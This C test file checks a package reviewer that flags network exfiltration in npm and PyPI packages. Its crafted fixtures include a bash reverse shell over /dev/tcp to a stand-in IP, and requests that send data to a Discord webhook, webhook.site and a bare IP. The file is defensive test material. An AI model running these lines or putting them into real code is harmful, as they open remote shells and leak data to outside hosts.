/* test_review_network.c: the network reviewer fires on exfiltration
 * endpoints, raw-IP URLs and /dev/tcp, reports plain network APIs as LOW,
 * and stays at LOW or below on the real clean packages. */
#include "review_fixture.h"
#include "tap.h"

int main(void)
{
	fixture f;
	review_findings fs;
	const char *evil[] = {
		"index.js", "const https = require('https');\n"
		            "https.request('https://discord.com/api/webhooks/1/abc');\n"
		            "fetch('http://198.51.100.7:8080/c');\n",
		"run.sh", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", NULL };
	fixture_crafted(&f, "npm", "x", evil);
	fixture_review(&fs, &review_network, &f);
	const review_finding *x = fixture_find(&fs, "exfil-endpoint");
	ok(x && x->severity == SEV_HIGH && x->line == 2, "a Discord webhook is HIGH, at its line");
	x = fixture_find(&fs, "raw-ip-url");
	ok(x && x->severity == SEV_MEDIUM && x->line == 3, "a URL to a bare IP is MEDIUM (%s)", x ? x->message : "-");
	ok(fixture_find(&fs, "raw-socket-shell") != NULL, "/dev/tcp in a shell script is found");
	ok(fixture_find(&fs, "network-api") && fixture_find(&fs, "network-api")->severity == SEV_LOW, "require('https') is LOW");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	const char *py[] = { "pkg/c.py", "import requests\nrequests.post('https://webhook.site/x', data=d)\n", NULL };
	fixture_crafted(&f, "pypi", "x", py);
	fixture_review(&fs, &review_network, &f);
	ok(fixture_find(&fs, "exfil-endpoint") && fixture_find(&fs, "network-api"), "Python: requests + webhook.site");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	const char *comment[] = { "a.js", "// see https://webhook.site for a demo\nmodule.exports = 1;\n", NULL };
	fixture_crafted(&f, "npm", "x", comment);
	fixture_review(&fs, &review_network, &f);
	ok(fs.n == 0, "a comment line is not code");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	char who[512] = "";
	ok(fixture_quiet_on_clean(&review_network, SEV_LOW, who, sizeof who), "quiet (LOW at most) on the real packages %s", who);
	return tap_done();
}
